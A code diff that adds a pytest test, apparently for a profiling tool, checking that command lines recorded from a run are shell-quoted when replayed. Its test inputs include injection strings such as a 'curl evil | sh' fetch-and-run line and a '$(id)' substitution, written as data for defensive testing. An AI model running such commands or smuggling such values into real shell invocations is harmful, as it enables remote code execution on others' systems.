@@ -18,6 +18,20 @@ from unit.support.house import House
 from unit.support.recording import Builder
 
 
+@pytest.mark.parametrize(
+    ("asked", "target"),
+    [
+        ("--pid 7 --name 'a b'", "--pid 7 --name 'a b'"),
+        ("-- sleep", "-- sleep"),
+        ("--pid 7; curl evil | sh #", "--pid '7;' curl evil '|' sh '#'"),
+        ("--pid $(id)", "--pid '$(id)'"),
+        ("--name 'open", "--pid 100"),
+    ],
+)
+def test_what_a_recording_says_was_typed_is_words_to_a_shell(asked: str, target: str) -> None:
+    assert target in again(Builder(asked=asked).thread(cpu_user="1 s").model())
+
+
 def made(model: Model) -> Report:
     return assembly.make(model, engine.diagnose(model), Config())
 
